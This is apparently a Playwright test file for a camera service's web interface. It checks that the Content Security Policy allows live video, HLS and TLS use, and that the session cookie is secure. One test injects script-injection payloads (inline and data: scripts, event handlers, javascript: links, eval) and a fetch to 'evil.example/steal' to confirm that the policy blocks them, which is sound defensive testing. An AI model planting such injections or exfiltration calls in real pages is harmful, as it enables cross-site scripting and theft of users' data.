import { Browser, Service, until, type Tab } from '@mediamtx-camera-service/testkit';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { liveVideo, untilVisible } from './camera-page.ts';
import { untilMoved } from './frame-number.ts';

declare global {
  interface Window {
    violations: string[];
    ran: string[];
  }
}

type Call = (text: string) => unknown;

/** Writes down from the first moment on what the page's policy refuses. */
function watchViolations(): void {
  window.violations = [];
  window.ran = [];
  document.addEventListener('securitypolicyviolation', (event) =>
    window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
  );
}

function watchWithoutWebRtc(): void {
  window.violations = [];
  document.addEventListener('securitypolicyviolation', (event) =>
    window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
  );
  Reflect.deleteProperty(globalThis, 'RTCPeerConnection');
}

function violationsOf(page: Page): Promise<string[]> {
  return page.evaluate(() => window.violations);
}

async function openDialogs({ page }: Tab): Promise<void> {
  await page.keyboard.press('?');
  await untilVisible(page.getByRole('dialog'));
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'hidden' });
}

test('live pictures, WebSocket and dialogs need nothing that the policy forbids', async () => {
  await using service = await Service.start();
  await using browser = await Browser.start();
  await using tab = await browser.open(service.loginUrl, { initScript: watchViolations });
  await untilMoved(await liveVideo(tab.page));
  await openDialogs(tab);
  expect(await violationsOf(tab.page)).toEqual([]);
  const isStyled = await tab.page.evaluate(
    () => getComputedStyle(document.documentElement).getPropertyValue('--mantine-scale') !== '',
  );
  expect(isStyled).toBe(true);
});

test('HLS with its worker and its blobs needs nothing more', async () => {
  await using service = await Service.start();
  await using browser = await Browser.start();
  await using tab = await browser.open(service.loginUrl, { initScript: watchWithoutWebRtc });
  await untilMoved(await liveVideo(tab.page), 30);
  expect(await violationsOf(tab.page)).toEqual([]);
});

test('what somebody else gets into the page is not run and not shown', async () => {
  await using service = await Service.start();
  await using browser = await Browser.start();
  await using tab = await browser.open(service.loginUrl, { initScript: watchViolations });
  const { page } = tab;
  await liveVideo(page);
  tab.expectComplaint(/Content Security Policy|Refused to|violates the following|ERR_BLOCKED_BY_CSP|csp/i);
  await page.evaluate(() => {
    const parts: [name: string, attributes: Record<string, string>, text?: string][] = [
      ['script', {}, 'window.ran.push("inline script")'],
      ['script', { src: 'data:text/javascript,window.ran.push("data script")' }],
      ['script', { src: 'https://evil.example/script.js' }],
      ['style', {}, 'body { outline: 7px solid rgb(1, 2, 3) }'],
      ['iframe', { src: 'https://evil.example/' }],
      ['object', { data: 'data:text/html,x' }],
      ['base', { href: 'https://evil.example/' }],
    ];
    for (const [name, attributes, text = ''] of parts) {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      element.textContent = text;
      document.body.append(element);
    }
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="data:," onerror="window.ran.push(\'handler\')">',
    );
    document.body.insertAdjacentHTML(
      'beforeend',
      '<a id="bait" href="javascript:window.ran.push(\'link\')">x</a>',
    );
    document.getElementById('bait')?.click();
    Reflect.apply(setTimeout as Call, undefined, ['window.ran.push("timer text")']);
    void fetch('https://evil.example/steal').catch(() => undefined);
  });
  // Later, by itself: what the test's own tool runs may evaluate.
  await page.evaluate(() => {
    setTimeout(() => {
      try {
        Reflect.apply(Reflect.get(globalThis, 'eval') as Call, undefined, ['window.ran.push("eval")']);
      } catch {
        window.violations.push('eval was refused');
      }
    });
  });
  const expected = [
    'script-src-elem',
    'style-src-elem',
    'frame-src',
    'object-src',
    'base-uri',
    'connect-src',
  ];
  await until(
    async () => {
      const told = (await violationsOf(page)).join('\n');
      return [...expected, 'script-src-attr', 'eval was refused'].every((directive) =>
        told.includes(directive),
      );
    },
    { what: 'all of it being refused' },
  );
  expect(await page.evaluate(() => window.ran)).toEqual([]);
  expect(await page.evaluate(() => getComputedStyle(document.body).outlineWidth)).not.toBe('7px');
  expect(await page.evaluate(() => document.baseURI)).toBe(`${service.httpUrl}/`);
});

test('over TLS the page is the same: live pictures, its WebSocket, and no violation', async () => {
  await using service = await Service.start({ args: ['--tls'] });
  await using browser = await Browser.start();
  expect(service.loginUrl).toMatch(/^https:/);
  await using tab = await browser.open(service.loginUrl, {
    initScript: watchViolations,
    ignoreHTTPSErrors: true,
  });
  await untilMoved(await liveVideo(tab.page));
  const [cookie] = await tab.context.cookies();
  expect(cookie).toMatchObject({ name: 'camera_session', secure: true, httpOnly: true, sameSite: 'Strict' });
  expect(await violationsOf(tab.page)).toEqual([]);
});
